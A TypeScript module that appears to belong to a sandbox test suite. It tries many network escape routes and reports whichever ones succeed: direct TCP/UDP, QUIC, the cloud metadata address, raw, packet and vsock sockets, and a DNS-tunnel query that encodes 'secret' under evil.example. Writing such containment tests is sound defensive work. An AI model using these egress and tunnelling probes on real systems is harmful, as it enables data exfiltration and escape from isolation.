import { createSocket } from 'node:dgram'
import { connect } from 'node:net'
import { type Attempt, any } from './attempt.ts'
import { libc, trySyscall } from './system.ts'

const patienceMs = 1500
const ipv4 = '203.0.113.7'
const ipv6 = '2001:db8::7'

/** What the other side says first, or says at all. */
function tcp(host: string, port: number, sent = ''): Promise<string | undefined> {
  return new Promise((resolve) => {
    const socket = connect({ host, port })
    let heard = ''
    socket.on('data', (chunk) => {
      heard += chunk.toString('latin1')
    })
    socket.on('error', () => resolve(undefined))
    socket.on('close', () => resolve(heard.includes('witness') ? `tcp ${host}:${port}` : undefined))
    socket.setTimeout(patienceMs, () => socket.destroy())
    if (sent !== '') socket.write(Buffer.from(sent, 'latin1'))
  })
}

function udp(host: string, port: number, sent: Buffer): Promise<string | undefined> {
  return new Promise((resolve) => {
    const socket = createSocket(host.includes(':') ? 'udp6' : 'udp4')
    const finish = (reached: string | undefined) => {
      clearTimeout(timer)
      socket.close()
      resolve(reached)
    }
    const timer = setTimeout(() => finish(undefined), patienceMs)
    socket.on('error', () => finish(undefined))
    socket.on('message', (answer) => finish(answer.includes('witness') ? `udp ${host}:${port}` : undefined))
    socket.send(sent, port, host)
  })
}

/** A QUIC Initial's first bytes, padded to the 1,200 bytes that servers insist on (RFC 9000, section 14.1). */
const quicInitial = Buffer.concat([Buffer.from('c300000001088394c8f03e5157080000449e', 'hex'), Buffer.alloc(1182)])

/** A question for `c2VjcmV0.evil.example`, type TXT: what a DNS tunnel sends. */
const tunnelQuestion = Buffer.from(
  `00010100000100000000000008${Buffer.from('c2VjcmV0').toString('hex')}046576696c076578616d706c65000010 0001`.replace(
    ' ',
    '',
  ),
  'hex',
)
const tunnelOverTcp = `${String.fromCharCode(0, tunnelQuestion.length)}${tunnelQuestion.toString('latin1')}`

const AF_INET = 2
const AF_VSOCK = 40
const SOCK_STREAM = 1
const SOCK_DGRAM = 2
const SOCK_RAW = 3
const IPPROTO_ICMP = 1
const IPPROTO_RAW = 255

function socketOf(domain: number, type: number, protocol: number): string | undefined {
  const descriptor = libc.socket(domain, type, protocol)
  return descriptor < 0 ? undefined : `socket(${domain}, ${type}, ${protocol})`
}

/** Socket families that other rules already speak of: none, Unix, IPv4, IPv6, netlink. */
const ordinaryFamilies = new Set([0, 1, 2, 10, 16])

export const networkAttempts: Readonly<Record<string, Attempt>> = {
  'tcp-direct': () =>
    any(
      () => tcp(ipv4, 443),
      () => tcp(ipv4, 22),
      () => tcp('169.254.169.254', 80),
    ),
  'tcp-ipv6': () =>
    any(
      () => tcp(ipv6, 443),
      () => tcp('::ffff:203.0.113.9', 80),
    ),
  udp: () =>
    any(
      () => udp(ipv4, 4443, Buffer.from('x')),
      () => udp(ipv6, 4443, Buffer.from('x')),
      () => udp(ipv4, 123, Buffer.alloc(48)),
    ),
  quic: () =>
    any(
      () => udp(ipv4, 443, quicInitial),
      () => udp(ipv6, 443, quicInitial),
    ),
  'dns-tunnel': () =>
    any(
      () => udp(ipv4, 53, tunnelQuestion),
      () => udp(ipv6, 53, tunnelQuestion),
      () => tcp(ipv4, 53, tunnelOverTcp),
    ),
  'icmp-echo': () => socketOf(AF_INET, SOCK_DGRAM, IPPROTO_ICMP),
  'raw-socket': () =>
    any(
      () => socketOf(AF_INET, SOCK_RAW, IPPROTO_RAW),
      () => socketOf(AF_INET, SOCK_RAW, IPPROTO_ICMP),
      () => socketOf(10, SOCK_RAW, 58),
    ),
  'packet-socket': () =>
    any(
      () => socketOf(17, SOCK_RAW, 0),
      () => socketOf(17, SOCK_DGRAM, 0),
      () => socketOf(AF_INET, 10, 0),
    ),
  vsock: () =>
    any(
      () => socketOf(AF_VSOCK, SOCK_STREAM, 0),
      () => socketOf(AF_VSOCK, SOCK_DGRAM, 0),
    ),
  'other-families': () => {
    const families = Array.from({ length: 46 }, (_, family) => family).filter((family) => !ordinaryFamilies.has(family))
    const types = [SOCK_STREAM, SOCK_DGRAM, SOCK_RAW, 5]
    return any(...families.flatMap((family) => types.map((type) => () => socketOf(family, type, 0))))
  },
  'uevent-netlink': () => socketOf(16, SOCK_RAW, 15),
  'io-uring': () => trySyscall('io_uring_setup', 8, Buffer.alloc(120)),
}
